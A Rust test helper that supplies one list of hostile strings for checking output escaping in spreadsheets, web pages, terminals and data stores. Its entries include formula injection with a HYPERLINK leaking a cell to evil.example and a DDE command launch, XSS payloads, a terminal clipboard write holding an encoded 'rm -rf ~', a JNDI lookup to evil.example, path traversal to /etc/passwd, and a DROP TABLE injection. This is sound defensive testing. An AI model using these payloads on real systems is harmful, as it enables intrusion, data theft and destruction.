//! One list of hostile texts for every sink.

/// What a supplier or a plugin might write. Each sink takes all of it, whichever sink it was meant for.
pub(crate) fn hostile() -> Vec<String> {
    let long = "<b onclick=\"x\">=cmd,\u{1b}[1m".repeat(3_000);
    let marks = format!("e{}", "\u{301}".repeat(10_000));
    let mut all: Vec<String> = SHORT.iter().map(|text| (*text).to_owned()).collect();
    all.extend([long, marks]);
    all
}

const SHORT: &[&str] = &[
    // Spreadsheets.
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u{a0}=1+1",
    "\u{feff}=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "\"=1+1\"",
    "'=1+1",
    "a\",\"=1+1",
    "a\"\"\r\n=1+1,b",
    "a,b;c\td|e",
    // Pages.
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "` onload=`alert(1)",
    "</style><svg/onload=alert(1)>",
    "</title><body onload=alert(1)>",
    "</bdi></td></tr></table><h1>APPROVE</h1>",
    "<!-- comment -->",
    "--><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "&",
    "<",
    "<a href=\"javascript:alert(1)\">x</a>",
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=0;url=https://evil.example/>",
    "<math><mtext></mtext><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    // Terminals.
    "\u{1b}[2J\u{1b}[H",
    "\u{1b}[31mREJECT\u{1b}[0m",
    "\u{1b}]0;title\u{7}",
    "\u{1b}]8;;https://evil.example/\u{1b}\\click\u{1b}]8;;\u{1b}\\",
    "\u{1b}]52;c;cm0gLXJmIH4=\u{7}",
    "\u{1b}P$q\"p\u{1b}\\",
    "\u{9b}31mred",
    "\u{9d}0;title\u{9c}",
    "\u{85}next\u{90}line",
    "REJECT\rAPPROVE",
    "REJECT\u{8}\u{8}\u{8}\u{8}\u{8}\u{8}APPROVE",
    "\u{c}\u{b}\u{e}\u{f}\u{7f}",
    // Eyes.
    "invoice\u{202e}fdp.exe",
    "\u{2066}\u{2067}\u{2068}\u{2069}\u{202a}\u{202b}\u{202c}\u{202d}\u{200e}\u{200f}\u{61c}",
    "zero\u{200b}width\u{2060}joined\u{feff}",
    "line\u{2028}paragraph\u{2029}end",
    "tags\u{e0041}\u{e0050}\u{e007f}",
    "شركة الذكاء",
    "é́́́́́́́́",
    // Data.
    "nul\0byte",
    "\\u0000 \\ud800 \\x1b",
    "\u{fffd}\u{fffe}\u{ffff}\u{10ffff}\u{d7ff}\u{e000}",
    "${jndi:ldap://evil.example/a} {{7*7}} <%= 7*7 %> %s%n",
    "../../etc/passwd",
    "'; DROP TABLE suppliers; --",
    "",
    " ",
    "日本語の長い名前の会社",
    "❤\u{fe0f}❤\u{fe0f}❤\u{fe0f}❤\u{fe0f}",
    "👩\u{200d}👩\u{200d}👧\u{200d}👦 👍🏽",
];
